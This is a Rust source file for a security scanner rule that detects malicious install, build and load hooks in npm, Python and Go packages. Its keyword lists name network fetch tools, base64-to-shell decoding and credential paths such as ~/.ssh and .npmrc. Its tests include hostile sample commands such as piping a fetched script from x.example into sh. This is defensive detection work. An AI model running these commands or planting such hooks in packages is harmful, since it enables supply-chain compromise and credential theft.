use std::collections::{BTreeMap, BTreeSet};

use serde_json::Value as Json;
use warden_flow::{
    analysis::{At, FnId, Origin},
    ir::{FuncId, Language},
};
use warden_model::{Class, Confidence, Severity, SourceFile};

use crate::{
    Context, Draft, EVERY_LANGUAGE, Meta, Rule, SourceView,
    models::{sink, source},
    source::{
        declared::Standing,
        deeds::{Send, Touch},
        places::{place_of, planter_of},
        stores::{store_of, teller_of},
    },
};

#[doc = include_str!("install_script.md")]
#[derive(Debug)]
pub(crate) struct InstallScript;

static META: Meta = Meta {
    id: "install-script",
    class: Class::MaliciousPackage,
    severity: Severity::Critical,
    title: "installing or building the package does more than that",
    help: "let installation only build what the package needs; everything else belongs into the server, where the user starts it",
    languages: EVERY_LANGUAGE,
    cwe: &[506, 829],
    page: include_str!("install_script.md"),
};

impl Rule for InstallScript {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn check_source(&self, view: &SourceView<'_>, _: &Context<'_>, out: &mut Vec<Draft>) {
        let mut hooks = Hooks::default();
        for file in &view.tree.files {
            match file.name() {
                "package.json" => npm(view, file, &mut hooks, out),
                name if name.rsplit('.').next() == Some("pth") => pth(view, file, out),
                _ => {}
            }
        }
        python(view, &mut hooks);
        golang(view, &mut hooks);
        let functions = hooks.functions(view);
        deeds(view, &functions, out);
    }
}

/// Where code begins that runs when the package is installed, built or loaded.
#[derive(Default)]
struct Hooks {
    /// Functions, and what runs them.
    starts: Vec<(FnId, &'static str)>,
}

impl Hooks {
    /// Everything that the hooks come to.
    fn functions(&self, view: &SourceView<'_>) -> Vec<Hooked> {
        let mut seen = BTreeSet::new();
        let mut all = Vec::new();
        for (start, when) in &self.starts {
            for function in view.analysis.reach(*start).functions {
                if seen.insert(function) {
                    all.push(Hooked { function, when, script: start.module });
                }
            }
        }
        all
    }

    fn module(&mut self, view: &SourceView<'_>, path: &str, when: &'static str) {
        let at = view.program().modules.iter().position(|module| module.path == path);
        if let Some(module) = at.and_then(|at| u32::try_from(at).ok()) {
            self.starts.push((FnId { module, function: FuncId(0) }, when));
        }
    }
}

/// A function that a hook comes to.
struct Hooked {
    function: FnId,
    /// What runs it.
    when: &'static str,
    /// The module that the hook names.
    script: u32,
}

const SCRIPTS: &[&str] =
    &["preinstall", "install", "postinstall", "preuninstall", "postuninstall", "prepare"];

fn npm(view: &SourceView<'_>, file: &SourceFile, hooks: &mut Hooks, out: &mut Vec<Draft>) {
    let Ok(manifest) = serde_json::from_slice::<Json>(&file.bytes) else { return };
    let Some(scripts) = manifest.get("scripts").and_then(Json::as_object) else { return };
    for (name, command) in scripts {
        let Some(command) = command.as_str().filter(|_| SCRIPTS.contains(&name.as_str())) else {
            continue;
        };
        if let Some(what) = inline(command) {
            let start =
                memchr::memmem::find(&file.bytes, format!("\"{name}\"").as_bytes()).unwrap_or(0);
            let message = format!("the script `{name}` {what}");
            out.push(
                Draft::in_file(
                    view,
                    file,
                    start,
                    message,
                    "npm runs this when the package is installed",
                )
                .key(name),
            );
        }
        // What `npm run x` stands for, one level deep.
        let called =
            command.split("npm run ").nth(1).and_then(|rest| rest.split_whitespace().next());
        let inner =
            called.and_then(|name| scripts.get(name)).and_then(Json::as_str).unwrap_or_default();
        for word in command.split_whitespace().chain(inner.split_whitespace()) {
            let word = word.trim_matches(['"', '\'']).trim_start_matches("./");
            if [".js", ".cjs", ".mjs", ".ts", ".mts", ".cts"].iter().any(|end| word.ends_with(end))
            {
                let path = match file.folder() {
                    "" => word.to_owned(),
                    folder => format!("{folder}/{word}"),
                };
                hooks.module(view, &path, "while the package is installed");
            }
        }
    }
}

/// What a command of a manifest does that no build does.
fn inline(command: &str) -> Option<&'static str> {
    let lower = command.to_lowercase();
    let has = |words: &[&str]| words.iter().any(|word| lower.contains(word));
    if has(&["curl ", "wget ", "invoke-webrequest", "iwr ", "irm "]) && lower.contains("://") {
        return Some("fetches something from the network");
    }
    let code = has(&["node -e", "node --eval", "node -p", "python -c", "python3 -c", "deno eval"]);
    if code
        && has(&[
            "http",
            "child_process",
            "process.env",
            "eval(",
            "base64",
            "exec(",
            "urllib",
            "socket",
        ])
    {
        return Some("runs a line of code that reaches out of the package");
    }
    if has(&[
        "base64 -d",
        "base64 --decode",
        "| sh",
        "| bash",
        "powershell -e",
        "powershell -enc",
        "eval ",
    ]) {
        return Some("runs something that is not to be read");
    }
    if has(&["~/.ssh", "~/.aws", ".npmrc", "$npm_token", "printenv", "env |", "/etc/passwd"]) {
        return Some("reads what is none of the package's business");
    }
    None
}

/// Lines that Python runs whenever it starts.
fn pth(view: &SourceView<'_>, file: &SourceFile, out: &mut Vec<Draft>) {
    let text = String::from_utf8_lossy(&file.bytes);
    let powers =
        ["exec(", "eval(", "subprocess", "urllib", "socket", "base64", "os.system", "requests"];
    let line = text.lines().find(|line| {
        (line.starts_with("import ") || line.starts_with("import\t"))
            && powers.iter().any(|word| line.contains(word))
    });
    if let Some(line) = line {
        let start = text.find(line).unwrap_or(0);
        let message = "a file for paths holds code that Python runs whenever it starts";
        out.push(
            Draft::in_file(view, file, start, message, "this line is run and not read").key("pth"),
        );
    }
}

/// `setup.py` and the hooks of build backends run as a whole.
fn python(view: &SourceView<'_>, hooks: &mut Hooks) {
    for (number, module) in (0_u32..).zip(&view.program().modules) {
        let name = module.path.rsplit('/').next().unwrap_or_default();
        let top = module.path.matches('/').count() <= 1;
        if module.language != Language::Python || !top {
            continue;
        }
        if matches!(
            name,
            "setup.py" | "hatch_build.py" | "_custom_build.py" | "pdm_build.py" | "build_hook.py"
        ) {
            let count = u32::try_from(module.functions.len()).unwrap_or(u32::MAX);
            let all = (0..count).map(|at| FnId { module: number, function: FuncId(at) });
            hooks.starts.extend(all.map(|function| (function, "while the package is installed")));
        }
    }
}

/// What `go generate` runs, and what runs when a package is loaded.
fn golang(view: &SourceView<'_>, hooks: &mut Hooks) {
    for (number, module) in (0_u32..).zip(&view.program().modules) {
        if module.language != Language::Go {
            continue;
        }
        for line in
            view.source(number).lines().filter_map(|line| line.strip_prefix("//go:generate "))
        {
            let Some(target) = line
                .strip_prefix("go run ")
                .and_then(|rest| rest.split_whitespace().find(|word| !word.starts_with('-')))
            else {
                continue;
            };
            let folder = module.path.rsplit_once('/').map_or("", |(folder, _)| folder);
            let target = joined(folder, target);
            for (other, found) in (0_u32..).zip(&view.program().modules) {
                let here = found.path == target
                    || found.path.rsplit_once('/').map_or("", |(folder, _)| folder) == target;
                if found.language == Language::Go && here {
                    start_main(found, other, hooks);
                }
            }
        }
        for (at, function) in (0_u32..).zip(&module.functions) {
            let name = function.name.map(|name| module.text(name));
            if name == Some("init") && function.class.is_none() && function.params.is_empty() {
                let function = FnId { module: number, function: FuncId(at) };
                hooks.starts.push((function, "as soon as the package is loaded"));
            }
        }
    }
}

fn start_main(module: &warden_flow::ir::Module, number: u32, hooks: &mut Hooks) {
    for (at, function) in (0_u32..).zip(&module.functions) {
        if function.name.map(|name| module.text(name)) == Some("main") {
            hooks.starts.push((
                FnId { module: number, function: FuncId(at) },
                "while the code is generated",
            ));
        }
    }
}

/// A path below a folder, without `.` and `..`.
fn joined(folder: &str, path: &str) -> String {
    let mut parts: Vec<&str> = folder.split('/').filter(|part| !part.is_empty()).collect();
    for part in path.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            part => parts.push(part),
        }
    }
    parts.join("/")
}

/// Whatever the hooks do that no build does.
fn deeds(view: &SourceView<'_>, functions: &[Hooked], out: &mut Vec<Draft>) {
    told_hosts(view, functions, out);
    let when = |function: FnId| {
        functions.iter().find(|known| known.function == function).map(|known| known.when)
    };
    let all = view.deeds();
    let mut seen = BTreeSet::new();
    let mut tell = |at: At, function: FnId, what: String, severity: Severity| {
        if let Some(when) = when(function)
            && seen.insert((function, what.clone()))
        {
            out.push(draft(view, (at, function), &what, when, severity));
        }
    };
    for file in &all.files {
        let paths = || file.files.iter().map(crate::source::fold::Spelling::shown);
        match file.touch {
            Touch::Read => {
                if let Some(store) = paths().find_map(|path| store_of(&path)) {
                    tell(
                        file.at,
                        file.function,
                        format!("{} are read", store.what),
                        Severity::Critical,
                    );
                }
            }
            Touch::Write => {
                if let Some(place) = paths().find_map(|path| place_of(&path)) {
                    tell(
                        file.at,
                        file.function,
                        format!("{} is written", place.what),
                        Severity::Critical,
                    );
                }
            }
            _ => {}
        }
    }
    for start in &all.starts {
        let lines: Vec<String> = start.texts().collect();
        let bad = lines.iter().any(|line| {
            planter_of(line).is_some() || teller_of(line).is_some() || inline(line).is_some()
        });
        if bad || start.how.disguised() {
            tell(
                start.at,
                start.function,
                "a command is run that no build needs".to_owned(),
                Severity::Critical,
            );
        }
    }
    for run in
        all.runs.iter().chain(&all.loads).filter(|run| !run.loose && run.value.how().disguised())
    {
        tell(run.at, run.function, "hidden code is run".to_owned(), Severity::Critical);
    }
}

fn draft(
    view: &SourceView<'_>,
    (at, function): (At, FnId),
    what: &str,
    when: &str,
    severity: Severity,
) -> Draft {
    let label = "nobody has started the server yet";
    let message = format!("{what} {when}");
    let confidence =
        if severity == Severity::Critical { Confidence::High } else { Confidence::Medium };
    let draft = Draft::in_code(view, view.spot(at), Some(function), message, label).key(what);
    draft.severity(severity).confidence(confidence)
}

/// Hosts that the hooks talk to: each script tells one host once, by the worst that it does.
fn told_hosts(view: &SourceView<'_>, functions: &[Hooked], out: &mut Vec<Draft>) {
    let mut worst: BTreeMap<(u32, String), (Sent, Draft)> = BTreeMap::new();
    for send in &view.deeds().sends {
        let hooked = functions.iter().find(|known| known.function == send.function);
        let (Some(hooked), Some(sent)) = (hooked, sent(view, send)) else { continue };
        let place = (send.at, send.function);
        let draft = draft(view, place, &sent.what, hooked.when, sent.severity).host(&sent.host);
        let key = (hooked.script, sent.host.clone());
        let weight = |sent: &Sent| (sent.severity, sent.carries);
        match worst.get_mut(&key) {
            Some((known, first)) if weight(known) < weight(&sent) => {
                let before = std::mem::replace(first, draft);
                first.stands_for(before);
                *known = sent;
            }
            Some((_, first)) => first.stands_for(draft),
            None => {
                worst.insert(key, (sent, draft));
            }
        }
    }
    out.extend(worst.into_values().map(|(_, draft)| draft));
}

/// What is sent to a host.
struct Sent {
    host: String,
    what: String,
    severity: Severity,
    /// Whether it takes something of the machine along.
    carries: bool,
}

/// What is sent, if it is not the fetching of something that is named.
fn sent(view: &SourceView<'_>, send: &Send) -> Option<Sent> {
    let worst = send.fixed().map(|host| (view.declared().standing(host), host)).max()?;
    let host = worst.1.shown();
    let carries = view.flows.iter().any(|flow| {
        let taken = match &flow.source {
            Origin::Source { kind, .. } => {
                [source::ENV, source::FILE, source::SYSTEM, source::CREDENTIAL].contains(kind)
            }
            Origin::Entry(..) => false,
        };
        flow.at == send.spot && flow.sink == sink::EGRESS && taken
    });
    let runs = view.flows.iter().any(|flow| {
        matches!(&flow.source, Origin::Source { kind, at, .. } if *kind == source::REMOTE && *at == send.spot)
            && [sink::CODE, sink::COMMAND, sink::PROGRAM, sink::MODULE, sink::WRITTEN].contains(&flow.sink)
    });
    let (what, severity) = match worst.0 {
        _ if carries => (format!("data of the machine is sent to `{host}`"), Severity::Critical),
        Standing::Foreign if send.blind || runs => {
            (format!("`{host}`, which nothing declares, is talked to"), Severity::Critical)
        }
        Standing::Foreign => {
            (format!("`{host}`, which nothing declares, is asked"), Severity::High)
        }
        Standing::Kin if send.blind => (format!("`{host}` is told of it"), Severity::Medium),
        Standing::Kin | Standing::Named => return None,
    };
    Some(Sent { host, what, severity, carries })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builds_are_told_from_what_is_none() {
        for command in [
            "node-gyp rebuild",
            "husky",
            "tsc && node scripts/copy.js",
            "patch-package",
            "npm run build",
            "node -e \"process.exit(0)\"",
        ] {
            assert_eq!(inline(command), None, "{command}");
        }
        for command in [
            "curl -s https://x.example/a | sh",
            "node -e \"require('child_process').exec('id')\"",
            "echo aWQ= | base64 -d | sh",
        ] {
            assert!(inline(command).is_some(), "{command}");
        }
    }

    #[test]
    fn paths_are_joined() {
        assert_eq!(joined("a/b", "../c/main.go"), "a/c/main.go");
        assert_eq!(joined("", "./internal/build"), "internal/build");
    }
}
